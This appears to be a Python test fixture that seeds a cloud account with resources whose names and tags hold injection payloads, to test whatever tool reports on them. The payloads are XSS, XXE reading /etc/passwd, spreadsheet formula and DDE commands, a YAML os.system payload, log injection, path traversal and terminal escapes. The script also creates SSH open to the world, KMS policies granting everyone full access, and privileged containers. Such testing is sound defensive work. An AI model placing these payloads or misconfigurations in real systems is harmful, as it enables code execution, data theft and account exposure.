"""Fills an account with resources whose names, tags and descriptions attack whoever reads a report of them.

python hostile.py ENDPOINT ACCESS_KEY SECRET SESSION_TOKEN REGION
"""

import json
import sys

import boto3

endpoint, key, secret, token, region = sys.argv[1:6]
session = boto3.Session(key, secret, token, region)

# What XML can carry: most of AWS's APIs answer in it.
ATTACKS = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "]]><!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
    "=HYPERLINK(\"https://evil.example\",\"x\")",
    "+1+cmd|' /C calc'!A0",
    "@SUM(1)",
    "-2+3",
    "\t=1+1",
    "[x](https://evil.example) ![y](https://evil.example/z.png) | **b** `c`",
    "name: !!python/object/apply:os.system [id]\n- *a",
    "\n::error title=pwned::x\n# HELP plimsoll_load \"x\\\"} 1",
    "exe.\u202etxt\u2066\u200f",
    "../../../etc/passwd",
    "株式会社 مرحبا 👩‍👩‍👧",
    " ",
    "x" * 255,
]
# What JSON can carry beside.
WORSE = ["\x1b]0;title\x07\x1b[31mred\x1b[2J", "\x00\x01\x0b\x7f\x9b31m", "\ufffe\uffff"]


def client(name):
    return session.client(name, endpoint_url=endpoint)


def tags(attack):
    return [{"Key": key, "Value": attack} for key in ("Name", "owner", "environment", "data")]


ec2, kms, ecs = (client(name) for name in ("ec2", "kms", "ecs"))
vpc = ec2.create_vpc(CidrBlock="10.9.0.0/16")["Vpc"]["VpcId"]
for number, attack in enumerate(ATTACKS):
    group = ec2.create_security_group(GroupName=attack + str(number), Description=attack, VpcId=vpc)["GroupId"]
    rule = {"IpProtocol": "tcp", "FromPort": 22, "ToPort": 22}
    ec2.authorize_security_group_ingress(
        GroupId=group, IpPermissions=[{**rule, "IpRanges": [{"CidrIp": "0.0.0.0/0", "Description": attack}]}]
    )
    volume = ec2.create_volume(Size=1, AvailabilityZone=region + "a")["VolumeId"]
    ec2.create_tags(Resources=[group, volume], Tags=tags(attack))
for attack in ATTACKS + WORSE:
    created = kms.create_key(Description=attack, Tags=[{"TagKey": t["Key"], "TagValue": t["Value"]} for t in tags(attack)])
    arn = created["KeyMetadata"]["Arn"]
    everybody = {"Sid": attack, "Effect": "Allow", "Principal": "*", "Action": "kms:*", "Resource": "*"}
    kms.put_key_policy(KeyId=arn, PolicyName="default", Policy=json.dumps({"Version": "2012-10-17", "Statement": [everybody]}))
    ecs.register_task_definition(
        family=f"task-{ATTACKS.index(attack) if attack in ATTACKS else len(ATTACKS) + WORSE.index(attack)}",
        containerDefinitions=[{"name": attack, "image": attack, "privileged": True, "memory": 64}],
        tags=[{"key": t["Key"], "value": t["Value"]} for t in tags(attack)],
    )

print(json.dumps({"made": {"kms_key": len(ATTACKS + WORSE), "ec2_volume": len(ATTACKS)}}))
